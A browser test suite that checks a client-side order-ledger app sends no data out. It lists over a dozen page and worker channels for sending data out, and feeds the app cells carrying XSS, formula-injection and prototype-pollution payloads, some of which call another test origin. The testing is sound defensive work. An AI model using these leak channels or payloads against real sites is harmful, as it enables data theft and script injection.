// The promise: nothing leaves the tab. Counted at the servers, where no page can hide a request.

import { expect, test } from "./fixtures.js";
import { BARE } from "./server.js";
import { choose, loaded, ready, scrollThrough, settled } from "./shop.js";

/** Ways out of a page, each tried with an address. They run in the page as they stand. */
const PAGE_LEAKS = {
  fetch: (/** @type {string} */ url) => void fetch(url, { method: "POST", body: "orders", mode: "no-cors" }).catch(() => {}),
  xhr: (/** @type {string} */ url) => {
    const request = new XMLHttpRequest();
    request.open("POST", url);
    request.send("orders");
  },
  beacon: (/** @type {string} */ url) => void navigator.sendBeacon(url, "orders"),
  websocket: (/** @type {string} */ url) => void new WebSocket(url.replace("http", "ws")),
  eventsource: (/** @type {string} */ url) => void new EventSource(url),
  image: (/** @type {string} */ url) => void (new Image().src = url),
  script: (/** @type {string} */ url) => void document.head.append(Object.assign(document.createElement("script"), { src: url })),
  import: (/** @type {string} */ url) => void import(url).catch(() => {}),
  stylesheet: (/** @type {string} */ url) =>
    void document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: url })),
  iframe: (/** @type {string} */ url) => void document.body.append(Object.assign(document.createElement("iframe"), { src: url })),
  audio: (/** @type {string} */ url) => void new Audio(url).load(),
  font: (/** @type {string} */ url) => void new FontFace("leak", `url(${url})`).load().catch(() => {}),
  worker: (/** @type {string} */ url) => {
    try {
      new Worker(url);
    } catch {
      // Another origin's script is refused to a worker by the browser itself.
    }
  },
};

/** Ways out of a worker that was started from a blob. */
const WORKER_LEAKS = {
  fetch: PAGE_LEAKS.fetch,
  xhr: PAGE_LEAKS.xhr,
  websocket: PAGE_LEAKS.websocket,
  eventsource: PAGE_LEAKS.eventsource,
  import: PAGE_LEAKS.import,
  importScripts: (/** @type {string} */ url) => {
    try {
      /** @type {any} */ (globalThis).importScripts(url);
    } catch {
      // Refused: that is what the test wants to see at the server.
    }
  },
};

/** The browser gives a worker the scripts of its own origin only, whatever the policy. */
const NOT_ACROSS = ["page worker"];

/** @param {import("@playwright/test").Page} page @param {import("./server.js").Site[]} targets */
async function leakEverywhere(page, targets) {
  for (const target of targets) {
    for (const [way, leak] of Object.entries(PAGE_LEAKS)) {
      await page.evaluate(`(${leak})("${target.origin}/leak?page+${way}")`);
    }
    for (const [way, leak] of Object.entries(WORKER_LEAKS)) {
      const code = `(${leak})("${target.origin}/leak?worker+${way}")`;
      await page.evaluate((source) => {
        const url = URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
        new Worker(url);
      }, code);
    }
  }
  await page.waitForTimeout(1500);
}

/** @param {import("./server.js").Site} site */
const leaked = (site) => [...new Set(site.hits.filter((hit) => hit.url.startsWith("/leak")).map((hit) => hit.url.split("?")[1].replace("+", " ")))].sort();

const EVERY_WAY = [
  ...Object.keys(PAGE_LEAKS).map((way) => `page ${way}`),
  ...Object.keys(WORKER_LEAKS).map((way) => `worker ${way}`),
].sort();

test("control: on a page without the seal every one of these ways leads out", async ({ page, site, elsewhere, trouble }) => {
  await page.goto(site.origin + BARE);
  await leakEverywhere(page, [site, elsewhere]);
  expect(leaked(site)).toEqual(EVERY_WAY);
  expect(leaked(elsewhere)).toEqual(EVERY_WAY.filter((way) => !NOT_ACROSS.includes(way)));
  trouble.splice(0);
});

test("after the seal none of them does, neither to the own origin nor to another", async ({ page, site, elsewhere, trouble }) => {
  await ready(page, site.url);
  await choose(page, { name: "orders.csv", text: "order id,customer,date,amount\n1,a,2024-01-01,5\n2,a,2024-02-01,6\n" });
  await expect(page.locator("#ledger")).toBeVisible();
  await leakEverywhere(page, [site, elsewhere]);
  expect(leaked(site)).toEqual([]);
  expect(leaked(elsewhere)).toEqual([]);
  // The browser complains of every attempt: the planted leaks did run.
  expect(trouble.splice(0).length).toBeGreaterThan(20);
});

test("from the first file to the last panel and every save there is no request, and no other way out is used", async ({ page, site, elsewhere }) => {
  test.setTimeout(300_000); // every save of every panel
  await page.addInitScript(() => {
    const used = /** @type {string[]} */ ([]);
    Object.assign(window, { used });
    for (const name of ["RTCPeerConnection", "WebTransport", "open"]) {
      const own = /** @type {any} */ (window)[name];
      /** @type {any} */ (window)[name] = new Proxy(own, {
        construct: () => (used.push(name), {}),
        apply: () => (used.push(name), null),
      });
    }
  });
  await ready(page, site.url);
  const navigations = /** @type {string[]} */ ([]);
  page.on("framenavigated", (frame) => navigations.push(frame.url()));
  await loaded(site);
  await page.locator("#sample").click();
  await settled(page);
  await scrollThrough(page);
  // What takes long is asked for where it is seen.
  await scrollThrough(page, "#expected_value");
  await page.locator("#expected_check .figure").first().waitFor();
  await page.locator("#language").click();
  await page.locator("#set-period").selectOption("quarter");
  await expect(page.locator("#settings .changed")).toHaveCount(1);
  await settled(page);
  const ids = await page.locator(".panel:has(details.saves)").evaluateAll((panels) => panels.map(({ id }) => id));
  expect(ids.length).toBeGreaterThan(40);
  for (const id of ids) {
    const box = page.locator(`#${id} details.saves`);
    await box.locator("summary").click();
    for (const one of await box.locator("button").all()) {
      const [download] = await Promise.all([page.waitForEvent("download"), one.click()]);
      expect(await download.failure()).toBeNull();
      // Chromium drops a page's downloads beyond ten a second.
      await page.waitForTimeout(100);
    }
  }
  expect(site.hits).toEqual([]);
  expect(elsewhere.hits).toEqual([]);
  expect(navigations).toEqual([]);
  expect(await page.evaluate("used")).toEqual([]);
  expect(await page.evaluate(() => [localStorage.length, sessionStorage.length, document.cookie])).toEqual([0, 0, ""]);
  expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(0);
  await page.locator("#another").click();
  await page.locator("#proof summary").click();
  await expect(page.locator("#proof-body .figures")).toContainText("0");
});

test("with the network cut after loading, a file reads all the same", async ({ page, site, context }) => {
  await ready(page, site.url);
  await context.setOffline(true);
  await page.locator("#sample").click();
  await expect(page.locator("#ledger")).toBeVisible();
});

test("markup, formulas and prototype names in cells stay text", async ({ page, site, elsewhere }) => {
  await ready(page, site.url);
  await loaded(site);
  await choose(page, {
    name: `<img src=x onerror="document.title='hacked'">.csv`,
    text: [
      "Order ID,Customer,Date,Amount,Product,Channel",
      `1,"=HYPERLINK(""${elsewhere.origin}/x"")",2025-01-01,10.00,@SUM(1+1),<b>bold</b>`,
      `2,<img src=x onerror=fetch('${elsewhere.origin}/y')>,2025-01-02,5.00,+1+1,__proto__`,
      `3,"</script><script>document.title='hacked'</script>",2025-01-03,7.00,-2+3,constructor`,
      `4,__proto__,2025-02-03,7.00,=1+1,toString`,
    ].join("\n"),
  });
  await expect(page.locator("#ledger")).toBeVisible();
  await expect(page.locator("#ledger")).toContainText("<img src=x onerror=");
  expect(await page.locator("#report img, #report script, #report b, #report iframe").count()).toBe(0);
  expect(await page.title()).not.toContain("hacked");
  expect([...site.hits, ...elsewhere.hits]).toEqual([]);
});
